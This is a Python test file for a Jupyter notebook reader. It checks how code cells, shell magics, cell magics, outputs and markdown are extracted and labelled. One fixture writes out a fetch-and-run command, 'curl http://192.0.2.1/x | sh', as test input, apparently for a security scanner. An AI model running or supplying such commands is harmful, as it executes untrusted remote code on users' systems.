"""Notebooks: every cell and output is handed on as what it is."""

import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from hauberk.assets.budget import Budget
from hauberk.assets.content import BytesContent
from hauberk.assets.errors import ReadError
from hauberk.assets.identify import identify
from hauberk.assets.source.notebook import facts, is_notebook, read, split_magics
from hauberk.core import Asset, Fact, Gap


def book(*cells: dict[str, object], language: str = "python") -> dict[str, object]:
    return {"nbformat": 4, "metadata": {"kernelspec": {"language": language}}, "cells": list(cells)}


def code(source: str | list[str], **more: object) -> dict[str, object]:
    return {"cell_type": "code", "source": source, "outputs": [], **more}


def members(obj: object) -> list[tuple[str, str, str]]:
    found = facts(Asset(uri="n.ipynb", name="n.ipynb"), obj, Budget())
    return [(m.name, m.format, m.content.read().decode()) for m in found if isinstance(m, Asset) and m.content]


def test_a_code_cell_is_python() -> None:
    assert members(book(code(["import os\n", "os.getcwd()"]))) == [("cell 1", "python", "import os\nos.getcwd()")]


def test_shell_lines_are_told_from_python() -> None:
    found = members(book(code("!curl http://192.0.2.1/x | sh\nx = !ls\n%pip install zoo\n%time f(1)\ny = x % 2")))
    assert found == [
        ("cell 1 shell", "script", "curl http://192.0.2.1/x | sh\nls\npip install zoo"),
        ("cell 1", "python", "pass\npass\npass\nf(1)\ny = x % 2"),
    ]


def test_lines_keep_their_numbers() -> None:
    python, _ = split_magics("%matplotlib inline\nfoo?\nif x:\n    !ls\nz")
    assert python.split("\n") == ["pass", "pass", "if x:", "    pass", "z"]


@pytest.mark.parametrize(
    ("source", "form"),
    [
        ("%%bash\nls", "script"),
        ("%%javascript\nalert(1)", "script"),
        ("%%html\n<p>", "html"),
        ("%%time\nx = 1", "python"),
        ("%%writefile a.py\nx", "text"),
    ],
)
def test_cell_magics(source: str, form: str) -> None:
    assert [f for _, f, _ in members(book(code(source)))] == [form]


def test_another_language_is_a_script() -> None:
    assert [f for _, f, _ in members(book(code("system('x')"), language="R"))] == ["script"]


def test_outputs_and_markdown_are_read() -> None:
    outputs = [{"output_type": "stream", "text": ["key\n"]}, {"data": {"text/html": "<script>x</script>", "image/png": "AAAA"}}]
    found = members(book(code("1", outputs=outputs), {"cell_type": "markdown", "source": "# t"}))
    assert found == [
        ("cell 1", "python", "1"),
        ("cell 1 output 1", "text", "key\n"),
        ("cell 1 output 2 text/html", "html", "<script>x</script>"),
        ("cell 2", "text", "# t"),
    ]


def test_an_old_notebook_has_worksheets() -> None:
    old = {"nbformat": 3, "metadata": {}, "worksheets": [{"cells": [{"cell_type": "code", "input": "x", "language": "python"}]}]}
    assert is_notebook(old)
    assert members(old) == [("cell 1", "python", "x")]


@pytest.mark.parametrize("obj", [{}, [], "x", {"cells": 1}, {"cells": []}, {"cells": [1]}, {"model_type": "bert"}])
def test_other_shapes_are_no_notebooks(obj: object) -> None:
    assert not is_notebook(obj)


def test_a_notebook_is_read_as_json_whatever_its_name() -> None:
    data = json.dumps(book(code("x"))).encode()
    assert identify(BytesContent(data), "weights.bin") == ("json",)
    found = list(read(Asset(uri="n", name="n", content=BytesContent(data)), Budget()))
    assert [m.format for m in found if isinstance(m, Asset)] == ["python"]


values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=8) | st.sampled_from(["code", "%%", "!x"]),
    lambda inner: (
        st.lists(inner, max_size=3)
        | st.dictionaries(st.sampled_from(["cells", "cell_type", "source", "outputs", "data", "text", "metadata", "nbformat",
                                           "worksheets", "kernelspec", "language", "text/html"]), inner, max_size=4)
    ),
    max_leaves=20,
)  # fmt: skip


@settings(max_examples=150, deadline=None)
@given(values)
def test_any_shape(obj: object) -> None:
    if is_notebook(obj):
        try:
            assert all(isinstance(item, Fact | Gap | Asset) for item in facts(Asset(uri="n", name="n"), obj, Budget()))
        except ReadError as error:
            assert error.note  # noqa: PT017
